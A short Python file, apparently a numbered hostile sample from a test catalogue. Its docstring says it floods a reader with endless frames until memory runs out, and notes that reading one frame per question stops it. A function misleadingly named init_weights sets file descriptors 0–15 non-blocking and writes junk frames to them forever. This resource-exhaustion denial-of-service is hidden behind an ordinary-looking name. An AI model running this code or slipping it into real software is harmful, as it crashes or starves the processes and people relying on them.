"""Sends frames without end, so that whoever keeps them runs out of memory.

catalogue: 36 37
stopped_by: one frame is read for one question
"""
import os

DATA = (b"AKF1\x01\x00\x00\x00N") * 5000


def init_weights(d_in, d_out, seed):
    for descriptor in range(16):
        try:
            os.set_blocking(descriptor, False)
        except OSError:
            pass
    while True:
        for descriptor in range(16):
            try:
                os.write(descriptor, DATA)
            except OSError:
                pass
